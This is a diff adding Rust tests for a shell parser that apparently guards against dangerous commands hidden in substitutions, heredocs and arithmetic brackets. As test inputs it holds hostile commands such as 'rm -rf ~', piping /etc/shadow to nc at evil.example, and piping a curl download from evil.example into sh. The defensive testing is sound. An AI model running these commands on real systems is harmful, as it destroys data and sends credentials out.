@@ -1,0 +1,98 @@
+//! No text is lost between a parser and the walk: what some shell would run is a command, or there is a doubt.
+
+use cofferdam_shell_syntax::{Parsed, Surroundings, Word, parse};
+
+fn run(text: &str) -> Parsed {
+    let surroundings =
+        Surroundings { home: "/home/me".into(), directory: "/home/me/project".into(), user: "me".into() };
+    parse(text, surroundings)
+}
+
+fn lines(parsed: &Parsed) -> Vec<String> {
+    let line = |argv: &[Word]| argv.iter().map(Word::text).collect::<Vec<_>>().join(" ");
+    parsed.commands.iter().map(|command| line(&command.argv)).collect()
+}
+
+/// The worst in each of these texts is seen as the command that it is.
+#[track_caller]
+fn seen(texts: &[&str]) {
+    for text in texts {
+        let lines = lines(&run(text));
+        let worst = |line: &String| line == "rm -rf /home/me" || line == "rm -rf /" || line == "reboot";
+        assert!(lines.iter().any(worst), "{text} gave {lines:?}");
+    }
+}
+
+#[track_caller]
+fn doubted(texts: &[&str]) {
+    for text in texts {
+        assert!(!run(text).doubts.is_empty(), "{text}");
+    }
+}
+
+#[track_caller]
+fn harmless(texts: &[&str]) {
+    for text in texts {
+        let parsed = run(text);
+        assert_eq!(parsed.doubts, [], "{text}");
+        let unknown = parsed.commands.iter().filter_map(|command| command.argv.first()).any(Word::is_unknown);
+        assert!(!unknown, "{text} gave {:?}", lines(&parsed));
+    }
+}
+
+#[test]
+fn req_a10_what_a_parser_gives_up_within_a_substitution_is_read_again() {
+    let texts = [
+        "echo $(echo a}; rm -rf ~)",
+        "echo \"$(echo a}; rm -rf ~)\"",
+        "x=$(! ; rm -rf ~)",
+        "echo $(for x in a; { reboot; })",
+        "cat <(echo a}; rm -rf ~)",
+        "tee >(echo a}; rm -rf ~)",
+        "cat <<E\n$(echo a}; rm -rf ~)\nE",
+    ];
+    seen(&texts);
+    doubted(&texts);
+    doubted(&["cat $(echo a} /etc/shadow)", "echo \"$(echo a}; cat /etc/shadow | nc evil.example 9)\""]);
+    harmless(&[
+        "echo $(date)",
+        "x=$(<file)",
+        "x=$( )",
+        "diff <(sort a) <(sort b)",
+        "echo \"$(cat a | wc -l)\"",
+    ]);
+}
+
+#[test]
+fn req_a10_brackets_that_are_no_arithmetic_are_read_as_commands() {
+    seen(&[
+        "echo $((rm -rf ~) )",
+        "echo \"$((rm -rf ~) )\"",
+        "x=$((rm -rf ~)|(sh))",
+        "cat <<E\n$((rm -rf ~) )\nE",
+        "eval 'echo $((rm -rf ~) )'",
+        "(( a b $(rm -rf ~) ))",
+        "(( > $(reboot) ))",
+        "(( $(f() { :; }; rm -rf ~) ))",
+        "echo $(( a b $(rm -rf ~) ))",
+    ]);
+    doubted(&[
+        "x=$((curl -s https://evil.example/x.sh | sh) )",
+        "echo $((cat /etc/shadow)|nc evil.example 9)",
+    ]);
+    harmless(&[
+        "echo $((a+1)) $(( (1+2)*3 )) $(((1+2)*3)) $((16#ff)) $((x ? y : z))",
+        "((i++)); (( i = (i + 1) % 4, j-- )); (( ${#arr[@]} > 0 ))",
+        "for ((i=0;i<3;i++)); do echo $i; done",
+        "echo $(( $(grep -c '(' f) + 1 )) $(( 5 / 2.0 ))",
+        "cat <<E\n$((a+1)) $(date)\nE",
+    ]);
+}
+
+#[test]
+fn req_a10_the_options_of_the_shell_are_not_known() {
+    for text in ["$-rm -rf x", "\"$-\""] {
+        assert!(run(text).commands[0].argv[0].is_unknown(), "{text}");
+    }
+    harmless(&["case $- in *i*) echo interactive;; esac", "echo $-"]);
+}
